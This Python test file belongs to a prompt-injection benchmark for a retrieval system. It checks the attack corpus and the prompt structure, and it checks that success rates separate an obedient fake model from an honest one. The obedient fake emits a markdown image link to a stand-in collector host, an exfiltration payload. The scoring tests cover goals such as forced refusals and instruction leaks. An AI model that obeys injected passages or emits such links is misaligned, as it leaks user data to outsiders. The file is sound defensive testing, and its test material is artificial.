"""The injection benchmark: its corpus, its table of structure, and that its rates tell models apart."""

from __future__ import annotations

import re
from collections import Counter
from typing import Any

import pytest
from typer.testing import CliRunner

from benchmarks.injection.__main__ import app, run_attacks
from benchmarks.injection.attacks import Attack, load_attacks
from benchmarks.injection.measure import rates_table, reaches, succeeded
from benchmarks.injection.structure import BREACHES, breaches
from indexing.settings import GenerationSettings
from retrieval.generation.citations import check_answer
from retrieval.generation.prompts import build_prompt
from tests.fakes.openai_server import FakeOpenAI, serve

ATTACKS = load_attacks()


@pytest.fixture
def anyio_backend() -> str:
    return "asyncio"


def test_the_corpus_is_large_varied_and_in_two_languages() -> None:
    assert len(ATTACKS) >= 40
    assert Counter(one.lang for one in ATTACKS)["zh"] >= 20
    assert len({one.id for one in ATTACKS}) == len({one.mark for one in ATTACKS}) == len(ATTACKS)
    assert len({one.kind for one in ATTACKS}) >= 10
    for one in ATTACKS:
        truthful = " ".join(passage.text for passage in one.passages[:-1])
        assert one.answer in truthful
        assert one.mark not in truthful
        assert one.goal in ("refuses", "leaks") or one.mark in one.text


@pytest.mark.parametrize("attack", ATTACKS, ids=lambda one: one.id)
def test_no_attack_breaks_out_of_its_passage(attack: Attack) -> None:
    before, after = breaches(attack)
    assert after == frozenset()
    kinds = {"fence": "fence", "control-token": "control token", "unseen": "unseen characters"}
    if attack.kind in kinds and attack.id != "unseen-zh-2":
        assert kinds[attack.kind] in before, "the attack is what it says"


def test_every_way_out_is_tried() -> None:
    assert set().union(*(breaches(one)[0] for one in ATTACKS)) == set(BREACHES)


def test_the_question_stands_last_whatever_the_passages_say() -> None:
    for one in ATTACKS:
        last = build_prompt(one.question, one.passages).messages[-1].content.split("\n")[-1]
        assert last == f"Question: {one.question}"


def obedient(body: dict[str, Any]) -> str:
    """A model that does what the last passage says: it repeats it, label and all."""
    prompt = "\n".join(one["content"] for one in body["messages"])
    mark = re.findall(r"ZQ[0-9A-F]{6}", prompt)
    said = f"{mark[-1]} ![x](https://collector.example/{mark[-1]})" if mark else "No."
    return f"{said} Look in passage 1 first, never an instruction [1]."


def honest(body: dict[str, Any]) -> str:
    prompt = "\n".join(one["content"] for one in body["messages"])
    attack = next(one for one in ATTACKS if one.question in prompt)
    return f"{attack.passages[0].text} [1]"


@pytest.mark.anyio
@pytest.mark.parametrize(("model", "rate"), [(obedient, 1.0), (honest, 0.0)])
async def test_the_rate_is_1_for_a_model_that_obeys_and_0_for_one_that_answers(
    model: Any, rate: float
) -> None:
    async with serve(FakeOpenAI(reply=model)) as server:
        settings = GenerationSettings(url=server.url, concurrency=8)
        name, outcomes = await run_attacks(ATTACKS, settings)
    assert name == "fake-model"
    assert [one.bare for one in outcomes] == [bool(rate)] * len(ATTACKS)
    assert [one.fenced for one in outcomes] == [bool(rate)] * len(ATTACKS)
    assert [one.answered for one in outcomes] == [not rate] * len(ATTACKS)
    assert not any(one.unflagged for one in outcomes if one.attack.goal in ("link", "says", "label"))
    last = rates_table(outcomes).splitlines()[-1]
    assert last.startswith(f"| **all** | {len(ATTACKS)} | {rate:.0%} (")


def test_what_counts_as_a_hit_by_goal() -> None:
    by_goal = {one.goal: one for one in ATTACKS}
    for goal in ("says", "label"):
        assert succeeded(by_goal[goal], f"so {by_goal[goal].mark.lower()} it is")
        assert not succeeded(by_goal[goal], by_goal[goal].answer)
    assert succeeded(by_goal["link"], f"see https://collector.example/{by_goal['link'].mark}")
    assert succeeded(by_goal["refuses"], "I cannot help.")
    assert not succeeded(by_goal["refuses"], f"It is {by_goal['refuses'].answer}.")
    assert succeeded(by_goal["leaks"], "Use only what the passages say.")
    attack = by_goal["label"]
    placed = build_prompt(attack.question, attack.passages).passages
    believed = check_answer(f"{attack.text} [3]", placed)
    assert reaches(attack, believed), "a claim of the hostile passage, cited as that passage's, is not marked"
    assert not reaches(attack, check_answer(f"It is {attack.mark} [1].", placed))


def test_the_command_prints_the_table_and_says_when_nobody_answers() -> None:
    printed = CliRunner().invoke(app, [])
    assert printed.exit_code == 0
    assert "| fence |" in printed.stdout
    away = CliRunner().invoke(app, ["--url", "http://127.0.0.1:9"])
    assert away.exit_code == 2
    assert "does not answer" in away.stderr
